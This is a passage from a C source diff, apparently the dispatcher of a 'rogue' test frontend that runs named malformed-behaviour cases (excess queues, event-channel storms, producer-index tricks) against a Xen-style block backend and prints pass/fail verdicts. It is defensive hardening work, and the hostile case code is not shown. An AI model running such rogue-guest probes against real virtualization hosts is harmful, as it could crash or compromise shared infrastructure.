+			c = &cases[i];
+	if (!c)
+		usage();
+
+	if (!strcmp(c->name, "queues-1000")) {
+		/* More queues than any backend offers: it must refuse, not connect. */
+		long st = connect_backend(&r, devid, 1000);
+
+		say("VERDICT case=%s first=%s followup=none", c->name,
+		    st == XB_CONNECTED ? "connected" : "refused");
+		leave_child(&r, linger_s);
+		return 0;
+	}
+	connect_backend(&r, devid, 0);
+	fill_data(&r);
+	say("rogue: case %s: %s", c->name, c->about);
+	slots = c->chain ? case_chain(&r, c->chain) : c->run(&r);
+	if (slots) {
+		collect(&r, slots, r.wait_ms);
+		say("rogue: %u slots sent, %u responses: %u okay, %u error, %u null",
+		    slots, r.nr_rsp, r.nr_okay, r.nr_err, r.nr_null);
+	}
+	/*
+	 * After prod-ahead the follow-up takes the real next index again.
+	 * After a storm the backend may hold our channel back for up to a
+	 * second (lateeoi on spurious events): give the follow-up longer.
+	 */
+	if (!strcmp(c->name, "evtchn-storm"))
+		r.wait_ms *= 3;
+	fu = followup(&r);
+	say("rogue: backend state now %ld",
+	    xread_long(r.xs, r.be, "state", -1));
+	say("VERDICT case=%s first=%s followup=%s", c->name,
+	    slots ? first_verdict(&r, slots) : "none", fu);
+	leave_child(&r, linger_s);
+	return 0;
+}
